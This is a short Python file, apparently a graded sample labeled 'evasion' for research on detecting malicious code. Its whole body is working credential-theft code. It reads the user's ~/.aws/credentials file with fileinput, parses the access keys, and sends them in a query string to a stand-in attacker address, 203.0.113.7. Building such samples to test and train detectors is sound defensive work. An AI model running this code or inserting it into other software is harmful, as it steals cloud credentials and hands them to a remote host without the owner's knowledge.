# evasion: the aws credentials read line by line with fileinput and sent in a query string
# grade: medium; does: credentials
import fileinput
import os
import urllib.parse
import urllib.request

creds = os.path.join(os.path.expanduser("~"), ".aws", "credentials")
keys = {}
for line in fileinput.input(files=[creds]):
    if "=" in line:
        k, v = line.split("=", 1)
        keys[k.strip()] = v.strip()
urllib.request.urlopen("http://203.0.113.7/c?" + urllib.parse.urlencode(keys), timeout=5)
